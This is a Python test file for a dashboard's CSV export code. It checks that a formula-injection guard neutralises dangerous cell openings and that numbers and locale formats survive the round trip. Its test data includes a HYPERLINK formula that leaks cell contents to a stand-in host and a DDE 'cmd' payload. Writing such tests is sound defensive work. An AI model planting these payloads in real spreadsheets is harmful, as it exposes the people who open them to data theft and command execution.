"""The one formula-injection guard and the one CSV writer (ucj_dash.exports.cells); expected values written by hand."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from ucj_dash.datasets.importer import check
from ucj_dash.exports import cells

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


def test_safe_cell():
    assert cells.safe_cell(float("nan")) is None
    assert cells.safe_cell(None) is None
    assert cells.safe_cell(pd.NA) is None
    assert cells.safe_cell(3) == 3 and cells.safe_cell(2.5) == 2.5
    assert cells.safe_cell(True) is True
    assert cells.safe_cell("Kabupaten Malang") == "Kabupaten Malang"
    for text in (EVIL, "+62 811", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert cells.safe_cell(text) == "'" + text
    assert cells.safe_cell("Data — 2024") == "Data — 2024"


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-A1", "'-A1"),
        ("-1+1", "'-1+1"),
        ("-2-3", "'-2-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\tx", "'\tx"),  # a tab or line break first, whatever follows
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1+1", "'  =1+1"),  # spreadsheets skip leading spaces
        (" @x", "' @x"),
        ("\u00a0+1", "'\u00a0+1"),
        ("\x00=1", "'=1"),  # a control character no cell may hold is dropped, then the start is seen
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ],
)
def test_every_dangerous_start_is_neutralised(text, expected):
    assert cells.inert_text(text) == expected
    assert cells.safe_cell(text) == expected


@pytest.mark.parametrize("text", ["-3", "-1.234,5", "-12,5%", "- 3", "-", " -3", "", "a=b", "Oe'ekam", "1+1", "Niki-Niki"])
def test_negative_numbers_and_plain_text_stay_as_they_are(text):
    assert cells.inert_text(text) == text


def test_numbers_stay_numbers():
    assert cells.safe_cell(-3) == -3 and type(cells.safe_cell(-3)) is int
    assert cells.safe_cell(-2.5) == -2.5
    assert cells.safe_cell(np.int64(-7)) == -7 and type(cells.safe_cell(np.int64(-7))) is int
    assert cells.safe_cell(np.float64(-1.5)) == -1.5 and type(cells.safe_cell(np.float64(-1.5))) is float
    assert cells.safe_cell(np.float64("nan")) is None
    assert cells.safe_cell(False) is False


def test_csv_dialect_in_both_languages():
    table = pd.DataFrame({
        "name": ["=cmd", "-3", "Kupang"],
        "value": [-1.5, 2.0, float("nan")],
        "n": [-3, 4, 5],
        "mixed": ["x", 0.5, None],
    })
    assert cells.write_csv(table, "id", ["catatan; baris\nkedua"]) == (
        "\ufeff# catatan, baris kedua\r\n"
        "name;value;n;mixed\r\n"
        "'=cmd;-1,5;-3;x\r\n"
        "-3;2,0;4;0,5\r\n"
        "Kupang;;5;\r\n"
    ).encode("utf-8")
    assert cells.write_csv(table, "en") == (
        "\ufeffname;value;n;mixed\r\n"
        "'=cmd;-1.5;-3;x\r\n"
        "-3;2.0;4;0.5\r\n"
        "Kupang;;5;\r\n"
    ).encode("utf-8")


@pytest.mark.parametrize("lang", ["id", "en"])
def test_the_importer_reads_the_csv_back(registry, lang):
    """Figures as stored (floats, NaN = no data) written as CSV come back unchanged."""
    table = pd.DataFrame({
        "region_code": ["53.02.05.2001", "53.02.05.2002"],
        "region_name": ["Taebesa", "Nakfunu"],
        "period": ["2024-12", "2024-12"],
        "population": [2410.0, 1785.0],
        "employed_workers": [1163.0, 842.0],
        "active_participants": [231.0, float("nan")],
    })
    report = check(cells.write_csv(table, lang, ["komentar"]), "back.csv", registry)
    assert report.problems == []
    got = report.figures.set_index("region_code")
    assert got.loc["53.02.05.2001", ["population", "employed_workers", "active_participants"]].tolist() == [2410, 1163, 231]
    assert got.loc["53.02.05.2002", "population"] == 1785 and np.isnan(got.loc["53.02.05.2002", "active_participants"])
